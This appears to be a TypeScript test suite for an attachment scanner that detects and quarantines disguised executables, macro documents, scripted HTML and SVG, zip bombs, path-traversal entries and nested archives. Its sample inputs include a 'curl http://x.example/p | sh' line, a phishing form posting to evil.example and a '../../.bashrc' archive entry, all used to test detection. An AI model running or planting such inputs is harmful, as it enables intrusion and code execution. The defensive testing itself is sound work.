import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { inspectAttachment, type AttachmentInput } from './inspect-attachment.ts';
import { DEFAULT_ATTACHMENT_LIMITS } from './limits.ts';
import { checkMessageLimits, inspectMessageAttachments } from './message-limits.ts';
import {
  bytes, elf, gif, gzipNamed, heic, javaClass, jpeg, machO, oleFile, ooxml, overlappingZip, pdf, png, tar, webp,
  windowsExecutable, zip,
} from './test-fixtures.ts';

const MiB = 1024 * 1024;
const text = (s: string): Uint8Array => new TextEncoder().encode(s);

function inspect(filename: string, content: Uint8Array, declaredType = 'application/octet-stream', limits = {}) {
  return inspectAttachment({ filename, declaredType, content }, limits);
}

function expectSafe(filename: string, content: Uint8Array, detectedType: string, declaredType?: string): void {
  expect(inspect(filename, content, declaredType)).toEqual({ detectedType, quarantined: false, reason: null });
}

function expectQuarantined(filename: string, content: Uint8Array, reason: RegExp, limits = {}): string {
  const result = inspect(filename, content, undefined, limits);
  expect(result.quarantined, `${filename}: ${result.reason}`).toBe(true);
  expect(result.reason).toMatch(reason);
  return result.detectedType;
}

/** A zip nested `levels` deep (the outermost counts as one) around `innermost`. */
function nestedZip(levels: number, innermost: { name: string; data: Uint8Array | string }): Uint8Array {
  let current = zip([innermost]);
  for (let level = levels - 1; level >= 1; level--) current = zip([{ name: `level-${level + 1}.zip`, data: current }]);
  return current;
}

describe('type detection from content', () => {
  it('recognises images, PDF and video by their magic bytes', () => {
    expectSafe('screenshot.png', png(), 'png', 'image/png');
    expectSafe('photo.jpg', jpeg(), 'jpeg', 'image/jpeg');
    expectSafe('anim.gif', gif(), 'gif');
    expectSafe('pic.webp', webp(), 'webp');
    expectSafe('IMG_0042.HEIC', heic(), 'heic', 'image/heic');
    expectSafe('statement.pdf', pdf(), 'pdf', 'application/pdf');
  });

  it('lets an image carry another image format’s extension, which phones and apps do all the time', () => {
    expectSafe('screenshot.jpg', png(), 'png', 'image/jpeg');
  });

  it('recognises text and CSV in UTF-8, GB18030 and UTF-16', () => {
    const csv = '时间,币种,数量,状态\n2024-05-01 10:00,USDT,100,失败\n2024-05-02 11:00,BTC,0.01,成功\n';
    expectSafe('交易记录.csv', text(csv), 'csv', 'text/csv');
    expectSafe('交易记录.csv', iconv.encode(csv, 'gb18030'), 'csv', 'text/csv');
    expectSafe('说明.txt', iconv.encode('我的账户被盗了，请帮我冻结账户。谢谢！', 'gbk'), 'text');
    expectSafe('export.txt', bytes([0xff, 0xfe], Buffer.from('Unicode text from Windows', 'utf16le')), 'text');
    expectSafe('notes.txt', text('Hello support,\nmy withdrawal is stuck.\n'), 'text');
  });

  it('takes random binary data for unknown, and an empty file for empty', () => {
    expectSafe('data.bin', bytes([0x00, 0x13, 0x37, 0x42, 0x99, 0x00, 0xfe]), 'unknown');
    expectSafe('empty.pdf', new Uint8Array(), 'empty');
  });

  it('opens ZIPs to tell OOXML documents from plain archives', () => {
    expectSafe('contract.docx', ooxml('word'), 'docx');
    expectSafe('ledger.xlsx', ooxml('xl'), 'xlsx');
    expectSafe('deck.pptx', ooxml('ppt'), 'pptx');
    expectSafe('evidence.zip', zip([{ name: 'screenshot.png', data: png() }, { name: 'records.csv', data: 'a,b\n1,2\n' }]), 'zip');
  });

  it('accepts the SVG icons Office puts inside documents', () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>';
    expectSafe('report.docx', ooxml('word', [{ name: 'word/media/image1.svg', data: svg }]), 'docx');
  });

  it('reads legacy Office files from their OLE directory', () => {
    expectSafe('old.doc', oleFile([{ name: 'WordDocument', type: 'stream' }, { name: '1Table', type: 'stream' }]), 'doc');
    expectSafe('old.xls', oleFile([{ name: 'Workbook', type: 'stream' }]), 'xls');
  });

  it('looks inside gzip and tar', () => {
    expectSafe('records.csv.gz', gzipNamed('records.csv', 'a,b\n1,2\n'), 'gzip');
    expectSafe('logs.tar', tar([{ name: 'app.log', data: 'started\n' }, { name: 'shot.png', data: png() }]), 'tar');
  });
});

describe('executables and scripts', () => {
  it('quarantines a PE named as a photo or an invoice, saying what it really is', () => {
    expect(expectQuarantined('photo.jpg', windowsExecutable(), /name says \.jpg but the content is a Windows executable \(PE\)/)).toBe('pe');
    expect(inspect('invoice.pdf', windowsExecutable(), 'application/pdf').reason).toMatch(/name says \.pdf but the content is a Windows executable/);
  });

  it('quarantines ELF, Mach-O and Java class files whatever their names', () => {
    expect(expectQuarantined('report.txt', elf(), /Linux\/Unix executable \(ELF\)/)).toBe('elf');
    expect(expectQuarantined('update', machO(), /macOS executable/)).toBe('macho');
    expect(expectQuarantined('Main.dat', javaClass(), /Java class/)).toBe('java-class');
  });

  it('quarantines a shebang script by content', () => {
    expect(expectQuarantined('notes.txt', text('#!/bin/sh\ncurl http://x.example/p | sh\n'), /script/)).toBe('script');
  });

  it('quarantines scripts, installers and shortcuts by name even when the content looks harmless', () => {
    for (const name of ['wallet.js', 'fix.vbs', 'run.ps1', 'start.bat', 'go.cmd', 'setup.sh', 'app.jar', 'page.hta', 'screen.scr', 'link.lnk', 'install.msi', 'wallet.apk', 'Invoice.pdf.exe', 'readme.exe. ']) {
      expectQuarantined(name, text('just text'), /run code|runs code/);
    }
  });

  it('quarantines names that hide their extension with bidirectional controls', () => {
    expectQuarantined('invoice\u202Efdp.txt', text('text'), /bidirectional/);
  });
});

describe('macro documents', () => {
  it('quarantines OOXML carrying vbaProject.bin, and macro-enabled extensions', () => {
    const withMacros = ooxml('word', [{ name: 'word/vbaProject.bin', data: oleFile([{ name: 'VBA', type: 'storage' }]) }]);
    expectQuarantined('report.docx', withMacros, /VBA macro project \(word\/vbaProject\.bin\)/);
    expectQuarantined('budget.xlsm', ooxml('xl'), /macro-enabled/);
  });

  it('quarantines legacy Office files with a VBA storage', () => {
    const doc = oleFile([{ name: 'WordDocument', type: 'stream' }, { name: 'Macros', type: 'storage' }, { name: 'VBA', type: 'storage' }, { name: '_VBA_PROJECT', type: 'stream' }]);
    expect(expectQuarantined('letter.doc', doc, /VBA macros/)).toBe('doc');
    const xls = oleFile([{ name: 'Workbook', type: 'stream' }, { name: '_VBA_PROJECT_CUR', type: 'storage' }]);
    expect(expectQuarantined('sheet.xls', xls, /VBA macros/)).toBe('xls');
  });

  it('quarantines password-encrypted Office files and Windows installers by their OLE directory', () => {
    expectQuarantined('secret.docx', oleFile([{ name: 'EncryptionInfo', type: 'stream' }, { name: 'EncryptedPackage', type: 'stream' }]), /password-encrypted/);
    const msiClsid = Buffer.from('84100c0000000000c000000000000046', 'hex');
    expect(expectQuarantined('document.bin', oleFile([{ name: 'Property', type: 'stream' }], msiClsid), /Windows installer/)).toBe('msi');
  });

  it('quarantines a malformed OLE file, which cannot be checked for macros', () => {
    const broken = Buffer.from(oleFile([{ name: 'WordDocument', type: 'stream' }]));
    broken.writeUInt32LE(9999, 0x30);
    expectQuarantined('letter.doc', broken, /malformed/);
  });
});

describe('HTML and SVG', () => {
  it('quarantines HTML by content, even under a harmless name', () => {
    const html = text('<!DOCTYPE html><html><body><form action="https://evil.example/login"><input name=pw></form></body></html>');
    expect(expectQuarantined('login.html', html, /HTML page, which can run scripts/)).toBe('html');
    expectQuarantined('receipt.txt', html, /name says \.txt but the content is an HTML page/);
  });

  it('quarantines SVG, which can carry script', () => {
    const svg = text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(expectQuarantined('logo.svg', svg, /SVG image, which can run scripts/)).toBe('svg');
    expectQuarantined('logo.png', svg, /name says \.png/);
  });
});

describe('archives', () => {
  it('quarantines archives that list a dangerous file, or hide one under an innocent name', () => {
    expectQuarantined('docs.zip', zip([{ name: 'readme.txt', data: 'hi' }, { name: 'tools/setup.exe', data: 'x' }]), /"tools\/setup\.exe": \.exe files run code/);
    expectQuarantined('photos.zip', zip([{ name: 'photo.jpg', data: windowsExecutable() }]), /"photo\.jpg": the content is a Windows executable/);
    expectQuarantined('photos.zip', zip([{ name: 'photo.jpg', data: windowsExecutable(), method: 'store' }]), /Windows executable/);
    expectQuarantined('site.zip', zip([{ name: 'index.htm', data: '<html></html>' }]), /\.htm files can run scripts/);
    expectQuarantined('bundle.tar', tar([{ name: 'evil.sh', data: 'echo' }]), /"evil\.sh": \.sh files run code/);
    expectQuarantined('backup.gz', gzipNamed('payload.exe', 'MZ'), /"payload\.exe": \.exe files run code/);
  });

  it('quarantines encrypted archives, which cannot be inspected', () => {
    expectQuarantined('secret.zip', zip([{ name: 'statement.pdf', data: pdf(), flags: 0x0001 }]), /encrypted/);
  });

  it('quarantines RAR and 7z, which it cannot open', () => {
    expect(expectQuarantined('files.rar', bytes('Rar!\x1a\x07\x01\x00', Buffer.alloc(32)), /RAR archive, which cannot be opened/)).toBe('rar');
    expect(expectQuarantined('files.7z', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4], Buffer.alloc(24)), /7-Zip archive/)).toBe('7z');
  });

  it('quarantines entries whose path escapes the extraction folder', () => {
    expectQuarantined('update.zip', zip([{ name: '../../.bashrc', data: 'x' }]), /outside the target folder/);
  });

  it('quarantines a zip that claims 10 GB uncompressed (ZIP64), from its directory alone', () => {
    const claims10GB = zip([{ name: 'big.csv', data: 'a,b\n', claimSize: 10 * 1024 * 1024 * 1024 }]);
    expectQuarantined('records.zip', claims10GB, /declares 10\.0 GiB uncompressed; the limit is 256\.0 MiB/);
  });

  it('quarantines a real high-ratio zip bomb', () => {
    const bomb = zip([{ name: 'zeros.csv', data: new Uint8Array(20 * MiB) }]);
    expect(bomb.length).toBeLessThan(100_000);
    expectQuarantined('records.zip', bomb, /expands \d+:1 .* the limit is 100:1/);
  });

  it('quarantines archives with too many entries', () => {
    const many = zip(Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' })));
    expectQuarantined('many.zip', many, /lists 11 entries; the limit is 10/, { maxArchiveEntries: 10 });
    expect(inspect('many.zip', many).quarantined).toBe(false);
  });

  it('quarantines overlapping entries, the construction of non-recursive zip bombs', () => {
    expectQuarantined('overlap.zip', overlappingZip(3), /overlap/);
  });

  it('allows nesting up to the depth limit and quarantines deeper', () => {
    expectSafe('nested.zip', nestedZip(3, { name: 'note.txt', data: 'hello' }), 'zip');
    expectQuarantined('nested.zip', nestedZip(4, { name: 'note.txt', data: 'hello' }), /"level-2\.zip › level-3\.zip › level-4\.zip": archives are nested more than 3 levels deep/);
    expectQuarantined('nested.zip', nestedZip(2, { name: 'note.txt', data: 'hello' }), /nested more than 1 levels/, { maxArchiveDepth: 1 });
  });

  it('names the path to a dangerous file inside nested archives', () => {
    expectQuarantined('outer.zip', nestedZip(2, { name: 'photo.png', data: windowsExecutable() }), /"level-2\.zip › photo\.png": the content is a Windows executable/);
  });

  it('stops decompressing an entry that lies about its size', () => {
    const inner = zip([{ name: 'a.txt', data: 'x' }]);
    const lying = Buffer.from(zip([{ name: 'inner.zip', data: inner }]));
    // The central directory's uncompressed size (offset 24 in the record) claims 10 bytes.
    const cd = lying.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    lying.writeUInt32LE(10, cd + 24);
    expectQuarantined('outer.zip', lying, /"inner\.zip": it expands beyond the size it declares/);
    expectQuarantined('logs.gz', gzipNamed('app.log', 'x'.repeat(5000), 100), /expands to a different size than it declares/);
    expectQuarantined('logs.gz', gzipNamed('app.log', Buffer.from(Array.from({ length: 50_000 }, (_, i) => (i * 7919) % 251)), 100), /expands beyond the size it declares/);
  });

  it('quarantines a truncated zip as malformed', () => {
    const whole = zip([{ name: 'a.txt', data: 'hello' }]);
    expectQuarantined('cut.zip', whole.subarray(0, whole.length - 30), /ZIP archive is malformed/);
  });

  it('spends a bounded amount on inspection', () => {
    const inner = zip([{ name: 'a.txt', data: 'y'.repeat(200_000) }]);
    expectQuarantined('outer.zip', zip([{ name: 'inner.zip', data: inner }]), /inspection limit/, { maxInspectBytes: 100 });
    expect(inspect('outer.zip', zip([{ name: 'inner.zip', data: inner }])).quarantined).toBe(false);
  });
});

describe('type mismatches', () => {
  it('quarantines content that does not match the extension or the declared type', () => {
    expectQuarantined('invoice.pdf', zip([{ name: 'a.txt', data: 'x' }]), /name says \.pdf but the content is a ZIP archive/);
    expect(inspect('scan', pdf(), 'image/png').reason).toMatch(/declared as image\/png but the content is a PDF document/);
    expectQuarantined('photo.png', bytes([0x13, 0x37, 0x00, 0x99]), /name says \.png but the content is unrecognised binary data/);
  });

  it('tolerates the harmless mix-ups of web exports', () => {
    expectSafe('export.xls', text('date,amount\n2024-01-01,5\n'), 'csv');
    expectSafe('export.csv', ooxml('xl'), 'xlsx');
  });
});

describe('robustness', () => {
  it('never throws on truncated or corrupted fixtures', () => {
    const fixtures = [png(), pdf(), windowsExecutable(), ooxml('word'), nestedZip(3, { name: 'a.txt', data: 'a' }), oleFile([{ name: 'WordDocument', type: 'stream' }]), tar([{ name: 'a', data: 'b' }]), gzipNamed('a.txt', 'abc')];
    let seed = 7;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (const fixture of fixtures) {
      for (let cut = 0; cut < fixture.length; cut += Math.max(1, Math.floor(fixture.length / 40))) {
        expect(() => inspect('x.bin', fixture.subarray(0, cut))).not.toThrow();
      }
      for (let round = 0; round < 40; round++) {
        const mutated = Buffer.from(fixture);
        for (let k = 0; k < 4; k++) mutated[random(mutated.length)] = random(256);
        const result = inspect('x.bin', mutated);
        expect(typeof result.quarantined).toBe('boolean');
      }
    }
  });
});

describe('message limits', () => {
  it('exports the defaults', () => {
    expect(DEFAULT_ATTACHMENT_LIMITS).toMatchObject({ maxAttachmentBytes: 25 * MiB, maxMessageBytes: 50 * MiB, maxAttachments: 50 });
  });

  it('refuses an attachment over the per-attachment limit, without inspecting it', () => {
    const result = inspect('big.png', bytes(png(), Buffer.alloc(2000)), 'image/png', { maxAttachmentBytes: 1000 });
    expect(result).toMatchObject({ detectedType: 'png', quarantined: true });
    expect(result.reason).toMatch(/over the 1000 bytes limit for one attachment/);
  });

  it('applies size, total and count limits in message order', () => {
    expect(checkMessageLimits([10 * MiB, 30 * MiB, 20 * MiB, 25 * MiB, 5 * MiB])).toEqual([
      null,
      expect.stringMatching(/30\.0 MiB, over the 25\.0 MiB limit for one attachment/),
      null,
      expect.stringMatching(/exceed the 50\.0 MiB limit for one message/),
      null,
    ]);
    const reasons = checkMessageLimits(Array.from({ length: 52 }, () => 100));
    expect(reasons.slice(0, 50).every((r) => r === null)).toBe(true);
    expect(reasons[50]).toMatch(/more than 50 attachments/);
    expect(checkMessageLimits([100, 100, 100], { maxAttachments: 2, maxMessageBytes: 1000 })).toEqual([null, null, expect.any(String)]);
  });

  it('inspects each attachment that fits the message limits', () => {
    const attachments: AttachmentInput[] = [
      { filename: 'shot.png', declaredType: 'image/png', content: png() },
      { filename: 'photo.jpg', declaredType: 'image/jpeg', content: windowsExecutable() },
      { filename: 'extra.pdf', declaredType: 'application/pdf', content: pdf() },
    ];
    const results = inspectMessageAttachments(attachments, { maxAttachments: 2 });
    expect(results.map((r) => [r.detectedType, r.quarantined])).toEqual([['png', false], ['pe', true], ['pdf', true]]);
    expect(results[2]!.reason).toMatch(/more than 2 attachments.*not inspected/);
  });
});
